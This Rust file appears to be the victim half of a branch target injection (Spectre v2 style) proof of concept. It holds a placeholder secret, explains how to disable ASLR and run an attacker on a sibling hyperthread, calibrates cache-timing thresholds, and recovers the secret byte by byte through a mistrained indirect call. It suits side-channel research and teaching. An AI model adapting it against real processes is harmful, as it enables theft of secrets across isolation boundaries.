use clap::Parser;
use log::{ debug, warn };

use bti::*;

/// Leak a secret from this process through a mistrained indirect call.
///
/// Run this with ASLR disabled (for instance with `setarch -R`) so that
/// it loads at the default PIE base. Then run the attacker with the
/// offsets printed at startup, on a sibling hyperthread or the same core.
/// The attacker must keep ASLR on (or be built without PIE): otherwise
/// its own image sits at the same base and the copy cannot be mapped.
#[derive(Parser)]
#[command(verbatim_doc_comment)]
pub struct Args {
    /// The secret to leak
    #[arg(long, default_value = "The Magic Words are Squeamish Ossifrage.")]
    secret: String,

    /// Loads taking at most this many cycles are cache hits
    #[arg(long, default_value_t = RecoverConfig::DEFAULT_THRESHOLD)]
    threshold: u64,

    /// Measure hit and miss latency and pick the threshold automatically
    #[arg(long)]
    calibrate: bool,

    /// Number of calibration samples
    #[arg(long, default_value_t = 10_000)]
    samples: usize,

    /// Maximum number of trials per series
    #[arg(long, default_value_t = RecoverConfig::DEFAULT_TRIALS)]
    trials: usize,

    /// Maximum number of series per byte
    #[arg(long, default_value_t = RecoverConfig::DEFAULT_MAX_ROUNDS)]
    max_rounds: usize,

    /// Pin to this core
    #[arg(long)]
    core: Option<usize>,
}

#[cfg(target_arch = "x86_64")]
fn run(args: Args) -> Result<(), Box<dyn std::error::Error>> {
    if let Some(core) = args.core {
        Env::pin_to_core(core)?;
    }
    match Env::aslr_enabled() {
        Ok(true) => println!("[!] ASLR is enabled; the attacker cannot \
            map its copy at this image's base (try setarch -R)"),
        Ok(false) => {},
        Err(e) => warn!("couldn't read ASLR setting: {}", e),
    }

    let layout = ImageLayout::current()?;
    println!("[*] {}", layout);

    let timing = X86Timing;
    let mut channel = Channel::new();
    let mut config = RecoverConfig::default()
        .threshold(args.threshold)
        .trials(args.trials)
        .max_rounds(args.max_rounds);

    if args.calibrate {
        match calibrate(&timing, &mut channel, args.samples) {
            Some(c) => {
                println!("[*] calibrated threshold: {} cycles", c.threshold);
                config = config.threshold(c.threshold);
            },
            None => println!("[!] calibration failed, keeping threshold {}",
                config.threshold),
        }
    }

    let mut r = Recoverer::new(timing, channel, CallSite::install(), config);
    let secret = args.secret.as_bytes();
    r.recover(secret, |i| println!("{}", i), |b| {
        debug!("{:#x}: {} rounds", b.addr, b.rounds);
        println!("{}", b);
    })?;
    debug!("junk {:#x}", r.junk());
    println!("done - you may now ^C to stop the attacker");
    Ok(())
}

#[cfg(not(target_arch = "x86_64"))]
fn run(_args: Args) -> Result<(), Box<dyn std::error::Error>> {
    Err("the victim call site is only implemented for x86_64".into())
}

fn main() {
    env_logger::init();
    let args = Args::parse();
    if let Err(e) = run(args) {
        eprintln!("[!] {}", e);
        std::process::exit(1);
    }
}
